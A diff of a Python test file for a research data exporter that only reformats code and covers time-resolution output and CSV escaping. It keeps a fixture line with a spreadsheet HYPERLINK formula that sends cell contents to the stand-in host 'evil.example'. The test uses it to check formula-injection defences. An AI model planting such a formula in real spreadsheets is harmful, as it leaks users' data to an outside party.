@@ -22,14 +22,21 @@ from tests.processes import REPO
 
 KEY = "test-export-key"
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1, "Open your results")'
-SKILLED = ("On Sunday eleven of your dishes were in the sink. I feel frustrated when I can't cook. "
-           "I'd like you to wash your own dishes by the next morning.")
+SKILLED = (
+    "On Sunday eleven of your dishes were in the sink. I feel frustrated when I can't cook. "
+    "I'd like you to wash your own dishes by the next morning."
+)
 
 
 class LiveWriter:
     def __init__(self, database: Path):
-        self.process = subprocess.Popen([sys.executable, "-m", "tests.research.live_writer", str(database)], cwd=REPO,
-                                        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+        self.process = subprocess.Popen(
+            [sys.executable, "-m", "tests.research.live_writer", str(database)],
+            cwd=REPO,
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            text=True,
+        )
 
     def ask(self, command: str) -> None:
         assert self.process.stdin and self.process.stdout
@@ -84,8 +91,11 @@ def test_csv_puts_an_apostrophe_before_a_formula_and_parquet_and_jsonl_keep_the_
 
 
 def test_times_are_given_to_the_day_unless_asked_otherwise_and_say_so(record, tmp_path):
-    shapes = {TimeResolution.day: r"^\d{4}-\d\d-\d\d$", TimeResolution.hour: r"^\d{4}-\d\d-\d\d \d\d:00$",
-              TimeResolution.exact: r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{6}$"}
+    shapes = {
+        TimeResolution.day: r"^\d{4}-\d\d-\d\d$",
+        TimeResolution.hour: r"^\d{4}-\d\d-\d\d \d\d:00$",
+        TimeResolution.exact: r"^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{6}$",
+    }
     for resolution, shape in shapes.items():
         out = tmp_path / resolution.value
         export(record, ExportOptions(out=out, format="jsonl", key=KEY, time_resolution=resolution))
